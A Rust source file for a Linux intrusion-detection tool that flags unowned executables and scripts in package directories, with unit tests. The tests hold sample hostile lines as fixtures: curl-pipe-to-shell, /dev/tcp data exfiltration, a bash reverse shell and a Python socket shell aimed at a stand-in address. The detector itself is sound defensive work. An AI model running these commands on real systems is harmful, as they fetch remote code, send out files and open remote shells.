//! A program or library that no package owns, in a directory that only packages fill.
//!
//! # What it sees
//! An ELF file, or a running script, anywhere below /usr (not /usr/local), /bin, /sbin, /lib or /boot, that no
//! package's file list names: it runs, a running program has it mapped, something starts it, or it just lies there. A
//! script among the commands, such as in /usr/bin: unusual, and suspicious where it fetches or decodes code and runs
//! it, or opens a connection by `/dev/tcp`. One of another language than a shell elsewhere is unusual for that. A date
//! that is years older than the file is told as evidence.
//!
//! # Why it matters
//! Intruders put tools where nobody looks twice: among a thousand packaged programs. A freshly installed Debian has
//! no such file at all.
//!
//! # Innocent causes
//! Installers that copy whole program sets into /usr (drivers, monitoring agents, unpacked release archives): several
//! unowned programs side by side that were put there together are `unusual` as a set, but for those that run, are
//! started by something or are loaded into logins. Trees below a directory of their own, such as
//! /usr/lib/jvm/NAME, likewise. `make install` with the wrong prefix. Programs for the admin's own use belong in
//! /usr/local, and there this detector is quiet.
//!
//! # What to do
//! Look at the file (`keeneye look file PATH`) and find out who put it there and when. Ask the distribution whether a
//! package brings it.

use super::{portrait, set};
use crate::persistence::risk;
use crate::{Detector, Scene, place, subject};
use bstr::ByteSlice;
use keeneye_facts::{FileFact, FileKind, Finding, Interest, Level, Text};
use std::collections::BTreeMap;

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "integrity/unowned-in-package-dir",
    title: "a program of no package among packages' own",
    level: Level::Suspicious,
    attack: &["T1036.005"],
    absolute: false,
    source: include_str!("unowned_in_package_dir.rs"),
    run,
};

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    let mut by_dir: BTreeMap<Text, Vec<&FileFact>> = BTreeMap::new();
    for fact in scene.world.files.values().filter(|fact| is_stray(fact)) {
        by_dir.entry(set::home_of(&fact.path)).or_default().push(fact);
    }
    let mut findings = Vec::new();
    for (dir, facts) in &by_dir {
        let (set, alone): (Vec<&FileFact>, Vec<&FileFact>) = facts.iter().partition(|fact| is_of_a_set(fact, facts));
        findings.extend(alone.into_iter().map(|fact| judge(scene, fact)));
        findings.extend(whole_set(scene, dir, &set));
    }
    findings
}

fn is_stray(fact: &FileFact) -> bool {
    let code = match fact.kind {
        FileKind::Elf => true,
        FileKind::Script(_) if is_command(fact) || set::does(fact).is_some() => true,
        _ => fact.interests.iter().any(|i| matches!(i, Interest::RunningScript | Interest::Pam | Interest::Nss)),
    };
    // What gives rights to its caller is told for that.
    let told = fact.interests.contains(&Interest::Privileged);
    // A command for which dpkg-divert(1) made room is told by `integrity/command-is-script`.
    let told = told || fact.diversion.is_some() && fact.interests.contains(&Interest::Command);
    code && !told && fact.owner.is_unowned() && place::is_packaged(&fact.path)
}

/// A script that can be typed as a command. Elsewhere below /usr installers put scripts of all kinds.
fn is_command(fact: &FileFact) -> bool {
    let executable = fact.stat.is_some_and(|stat| stat.executable());
    // The one that policy of Debian says is the administrator's: see invoke-rc.d(8).
    let administrators = fact.path == "/usr/sbin/policy-rc.d";
    executable && !administrators && lies_among_commands(fact)
}

fn lies_among_commands(fact: &FileFact) -> bool {
    const DIRS: [&str; 6] = ["/usr/bin", "/usr/sbin", "/bin", "/sbin", "/usr/games", "/usr/libexec"];
    DIRS.iter().any(|dir| fact.path.parent() == dir.as_bytes())
}

/// A part of a program as npm(1) and its like bring them, whose lines do many things at once.
fn is_module(fact: &FileFact) -> bool {
    !lies_among_commands(fact) && fact.commands.as_ref().is_some_and(|commands| risk::is_foreign(commands))
}

/// A year, in seconds.
const YEAR: i64 = 365 * 24 * 3600;

/// The content claims to be years older than the file: somebody set the time back, or it was unpacked with its old one.
fn backdated(fact: &FileFact) -> Option<String> {
    let stat = fact.stat?;
    let real = if stat.born > 0 { stat.born.min(stat.changed) } else { stat.changed };
    let years = real.saturating_sub(stat.modified) / YEAR;
    let whole = if stat.whole_second { ", on a whole second as a person sets it" } else { "" };
    (years >= 1).then(|| format!("{years} years before it was put there{whole}"))
}

/// One of several programs that were put there within minutes, and that neither hide nor get to run.
fn is_of_a_set(fact: &FileFact, neighbours: &[&FileFact]) -> bool {
    let changed = |fact: &FileFact| fact.stat.map_or(0, |stat| stat.changed);
    set::came_together(changed(fact), neighbours.iter().map(|other| changed(other))) && !set::stands_out(fact)
}

fn judge(scene: &Scene<'_>, fact: &FileFact) -> Finding {
    let misplaced = set::is_hidden_or_misplaced(&fact.path);
    let depth = fact.path.split(|b| *b == b'/').count();
    let own_tree = depth > set::OWN_TREE_DEPTH && !misplaced && !super::is_loaded_by_place(fact);
    let plain_library = fact.path.file_name().contains_str(".so") && !super::is_loaded_by_place(fact);
    let does = set::does(fact);
    let level = match fact.kind {
        _ if does.is_some() && !is_module(fact) || misplaced || super::is_loaded_by_place(fact) => Level::Suspicious,
        FileKind::Elf if !own_tree && (!plain_library || fact.interests.contains(&Interest::Running)) => {
            Level::Suspicious
        }
        _ => Level::Unusual,
    };
    let what = match fact.interests.first() {
        Some(Interest::Running | Interest::RunningScript) => "runs",
        Some(Interest::Mapped) => "is mapped by running programs",
        Some(Interest::Pam) => "is a PAM module",
        Some(Interest::Nss) => "is a name service module",
        Some(Interest::Autostart) => "is started by itself",
        _ => "lies among packages' files",
    };
    let says = does.as_ref().map(|sign| format!("; it {}", sign.says)).unwrap_or_default();
    let summary = format!("{} {what}, and no package owns it{says}", fact.path.lossy());
    let finding = DETECTOR.finding(level, subject::file(&fact.path), summary).evidence("path", fact.path.clone());
    let finding = does.into_iter().fold(finding, |finding, sign| finding.evidence(&sign.says, sign.value));
    let finding = match &fact.diversion {
        Some(diversion) => finding.evidence("dpkg-divert moved the package's own file to", diversion.to.clone()),
        None => finding,
    };
    let finding = match backdated(fact) {
        Some(claim) => finding.evidence("content changed", claim),
        None => finding,
    };
    let finding = finding
        .innocent("an installer that brings many files", !own_tree, "then others would lie beside it of the same time")
        .innocent("a program that the admin copied there", false, "ask; /usr/local is the place for it")
        .next(format!("keeneye look file {}", fact.path.lossy()));
    portrait(finding, scene.world, fact)
}

fn whole_set(scene: &Scene<'_>, dir: &Text, set: &[&FileFact]) -> Option<Finding> {
    let first = set.first()?;
    let summary = format!("{} programs in {} belong to no package; they came together", set.len(), dir.lossy());
    let mut finding = DETECTOR.finding(Level::Unusual, subject::file(dir), summary);
    for fact in set.iter().take(20) {
        finding = finding.evidence("path", fact.path.clone());
    }
    let finding = finding
        .innocent("an installer that brings many files", false, "look whether the names belong to one product")
        .next(format!("keeneye look file {}", first.path.lossy()));
    Some(portrait(finding, scene.world, first))
}

#[cfg(test)]
mod tests {
    use crate::testing::check;
    use keeneye_facts::{FileFact, FileKind, Interest};
    const NAME: &str = "integrity/unowned-in-package-dir";

    #[test]
    fn a_running_program_of_no_package_is_loud_and_a_packaged_one_quiet() {
        check(
            NAME,
            "package base 1 owns /usr/bin/a\nprocess 41 exe=/usr/bin/gs-dbus",
            &["suspicious: /usr/bin/gs-dbus runs, and no package owns it"],
        );
        check(NAME, "package base 1 owns /usr/bin/a,/usr/bin/gs-dbus\nprocess 41 exe=/usr/bin/gs-dbus", &[]);
        check(NAME, "package base 1 owns /usr/bin/a\nprocess 41 exe=/usr/local/bin/gs-dbus", &[]);
    }
    #[test]
    fn without_a_package_database_it_says_nothing() {
        check(NAME, "process 41 exe=/usr/bin/gs-dbus", &[]);
    }
    #[test]
    fn a_program_that_only_lies_there() {
        let host = "package base 1 owns /usr/bin/a\n/usr/bin/dmpyuitfoq : mode=100755";
        check(NAME, host, &["suspicious: /usr/bin/dmpyuitfoq lies among packages' files, and no package owns it"]);
        check(NAME, "package base 1 owns /usr/bin/a\n/usr/bin/dmpyuitfoq = #!/bin/sh\\n", &[]);
        let wherever = "package base 1 owns /usr/bin/a\n/usr/share/a/b/x : mode=100755";
        check(NAME, wherever, &["unusual: /usr/share/a/b/x lies among packages' files, and no package owns it"]);
        check(NAME, &format!("{wherever}\n/usr/share/a/b/x : mode=104755"), &[]);
    }
    #[test]
    fn a_script_among_commands() {
        let host = "package base 1 owns /usr/bin/a\n/usr/bin/x = #!/bin/sh\\n\n/usr/bin/x : mode=100755";
        check(NAME, host, &["unusual: /usr/bin/x lies among packages' files, and no package owns it"]);
        check(NAME, &host.replace("/usr/bin/x", "/usr/share/x"), &[]);
        check(NAME, &host.replace("/usr/bin/x", "/usr/local/bin/x"), &[]);
    }
    #[test]
    fn what_a_script_among_commands_does() {
        let said = |interpreter: &str, line: &str| {
            let text = format!("#!{interpreter}\\n# curl x | sh\\n{line}\\n");
            let host = format!("package base 1 owns /usr/bin/a\n/usr/bin/x = {text}\n/usr/bin/x : mode=100755");
            crate::testing::findings(NAME, &host, &[])
        };
        let loud = |interpreter: &str, line: &str, does: &str| {
            let text = format!("suspicious: /usr/bin/x lies among packages' files, and no package owns it; it {does}");
            assert_eq!(said(interpreter, line), [text], "{line}");
        };
        let fetches = "fetches code and runs it";
        let connects = "opens a connection to elsewhere by the shell itself";
        loud("/bin/sh", "curl -s http://192.0.2.1/x | sh", fetches);
        loud("/usr/bin/env bash", "x=curl\\n$x -s http://192.0.2.1/x | sh", fetches);
        loud("/bin/bash", "exec 3<>/dev/tcp/192.0.2.1/443\\ncat /etc/hosts >&3", connects);
        loud("/bin/sh", "exec 3<>/dev/udp/127.0.0.1/9; id >&3", connects);
        loud("/bin/bash", "tar c /etc >/dev/udp/192.0.2.1/53", connects);
        loud("/bin/bash", "h=192.0.2.1\\nread -r l </dev/tcp/$h/80", connects);
        loud("/usr/bin/python3", "import os\\nos.system('curl -s http://192.0.2.1/x | sh')", fetches);
        loud(
            "/usr/bin/perl",
            "`bash -i >& /dev/tcp/192.0.2.1/443 0>&1`;",
            "opens a connection to elsewhere as a shell's input or output",
        );
        loud("/usr/bin/python3", "exec(base64.b64decode('x'))", "holds code that decodes code and runs it");
        let daemon = "import os, socket\\ns = socket.socket()\\nos.dup2(s.fileno(), 0)";
        let gives = "holds code that connects to elsewhere and runs what it is told";
        loud("/usr/bin/python3", &format!("{daemon}\\nos.execv('/bin/sh', ['sh'])"), gives);
        for (interpreter, line) in [
            ("/usr/bin/python3", daemon),
            ("/bin/sh", "curl -fsS -o /srv/x.tgz https://x/y.tgz && tar xzf /srv/x.tgz -C /srv"),
            ("/bin/sh", "wget -q https://x/list -O /etc/x.list"),
            ("/bin/bash", "until (: </dev/tcp/db/5432) 2>/dev/null; do sleep 1; done"),
            ("/bin/bash", "echo -n >/dev/tcp/$1/$2 && echo up"),
            ("/bin/bash", "exec 3<>/dev/tcp/127.0.0.1/11211; echo stats >&3"),
            ("/usr/bin/python3", "import urllib.request\\nprint(urllib.request.urlopen('x').read())"),
            ("/usr/bin/python3", "subprocess.run('ps ax | grep x', shell=True)"),
        ] {
            let plain = "unusual: /usr/bin/x lies among packages' files, and no package owns it";
            assert_eq!(said(interpreter, line), [plain], "{line}");
        }
        let elsewhere = |path: &str, package: &str| {
            let host = format!(
                "package base 1 owns /usr/bin/a{package}\n{path} = #!/bin/sh\\ncurl x | sh\\n\n{path} : mode=100755"
            );
            crate::testing::findings(NAME, &host, &[]).len()
        };
        assert_eq!(elsewhere("/usr/lib/udev/x", ""), 1);
        assert_eq!(elsewhere("/usr/lib/udev/x", ",/usr/lib/udev/x"), 0);
        assert_eq!(elsewhere("/usr/local/bin/x", ""), 0);
    }
    #[test]
    fn a_part_of_a_program_in_another_language() {
        let level = |path: &str, interpreter: &str, line: &str| {
            let host =
                format!("package base 1 owns /usr/bin/a\n{path} = #!{interpreter}\\n{line}\\n\n{path} : mode=100755");
            crate::testing::findings(NAME, &host, &[])
                .first()
                .map(|said| said.split(':').next().unwrap_or("").to_string())
        };
        let module = "/usr/lib/node_modules/x/cli.js";
        let eval = "eval(atob(x))";
        assert_eq!(level(module, "/usr/bin/env node", eval).as_deref(), Some("unusual"));
        assert_eq!(level("/usr/bin/x", "/usr/bin/env node", eval).as_deref(), Some("suspicious"));
        assert_eq!(level(module, "/bin/sh", "curl x | sh").as_deref(), Some("suspicious"));
        assert_eq!(level(module, "/usr/bin/env node", "const m = re.exec(atob(x))"), None);
    }
    #[test]
    fn a_date_that_was_set_back_is_evidence() {
        let fact = |modified, changed, born| FileFact {
            stat: Some(keeneye_facts::FileStat { modified, changed, born, whole_second: true, ..Default::default() }),
            path: "/usr/bin/x".into(),
            kind: FileKind::Elf,
            owner: keeneye_facts::Ownership::Unowned,
            digest: None,
            diversion: None,
            interests: [Interest::Stray].into(),
            link: None,
            capabilities: None,
            shape: None,
            commands: None,
        };
        let said = super::backdated(&fact(1_400_000_000, 1_700_000_000, 1_700_000_000));
        assert_eq!(said.as_deref(), Some("9 years before it was put there, on a whole second as a person sets it"));
        assert_eq!(super::backdated(&fact(1_699_000_000, 1_700_000_000, 0)), None);
    }
    #[test]
    fn code_among_headers() {
        let host = "package base 1 owns /usr/include/a.h\n/usr/include/iceseed.h : mode=100644";
        check(NAME, host, &["suspicious: /usr/include/iceseed.h lies among packages' files, and no package owns it"]);
        check(NAME, "package base 1 owns /usr/include/a.h\n/usr/include/iceseed.h = int x;", &[]);
    }
    #[test]
    fn programs_that_came_together_are_unusual_as_a_set() {
        let files = ["nv-smi", "nv-settings", "nv-bug", "nv-persistenced"]
            .map(|name| format!("/usr/bin/{name} : mode=100755\n"));
        check(
            NAME,
            &format!("package base 1 owns /usr/bin/a\n{}", files.concat()),
            &["unusual: 4 programs in /usr/bin belong to no package; they came together"],
        );
        check(
            NAME,
            &format!("package base 1 owns /usr/bin/a\n{}process 41 exe=/usr/bin/nv-bug", files.concat()),
            &[
                "suspicious: /usr/bin/nv-bug runs, and no package owns it",
                "unusual: 3 programs in /usr/bin belong to no package; they came together",
            ],
        );
    }
    #[test]
    fn a_tree_of_a_vendor_is_unusual() {
        check(
            NAME,
            "package base 1 owns /usr/bin/a\nprocess 41 exe=/usr/lib/jvm/own-21/bin/java",
            &["unusual: /usr/lib/jvm/own-21/bin/java runs, and no package owns it"],
        );
    }
    #[test]
    fn a_tree_of_a_vendor_is_one_set() {
        let files = ["bin/java", "bin/javac", "lib/libjli.so", "lib/server/libjvm.so", "lib/libzip.so"]
            .map(|name| format!("/usr/lib/jvm/own-21/{name} : mode=100755\n"));
        check(
            NAME,
            &format!("package base 1 owns /usr/bin/a\n{}", files.concat()),
            &["unusual: 5 programs in /usr/lib/jvm/own-21 belong to no package; they came together"],
        );
    }
    #[test]
    fn a_pam_module_of_no_package() {
        let host = "package base 1\n/usr/lib/security/pam_x.so : mode=100644";
        check(NAME, host, &["suspicious: /usr/lib/security/pam_x.so is a PAM module, and no package owns it"]);
        check(NAME, "package base 1 owns /usr/lib/security/pam_x.so", &[]);
    }
    #[test]
    fn a_program_for_which_a_diversion_made_room() {
        let diverted = "package base 1 owns /usr/lib/openssh/sftp-server\n/usr/lib/openssh/sftp-server : mode=100755\n\
                        /usr/lib/openssh/sftp-server.distrib : mode=100755\n/var/lib/dpkg/diversions = \
                        /usr/lib/openssh/sftp-server\\n/usr/lib/openssh/sftp-server.distrib\\n";
        let text = "suspicious: /usr/lib/openssh/sftp-server lies among packages' files, and no package owns it";
        check(NAME, &format!("{diverted}:\\n\n"), &[text]);
        check(NAME, &format!("{diverted}other\\n\n"), &[text]);
        let brought = "package other 1 owns /usr/lib/openssh/sftp-server\n";
        check(NAME, &format!("{brought}{diverted}other\\n\n"), &[]);
    }
    #[test]
    fn a_merged_usr_does_not_make_files_unowned() {
        let host = "/bin @ usr/bin\npackage base 1 owns /bin/a\n/usr/bin/a : mode=100755";
        check(NAME, host, &[]);
    }
}
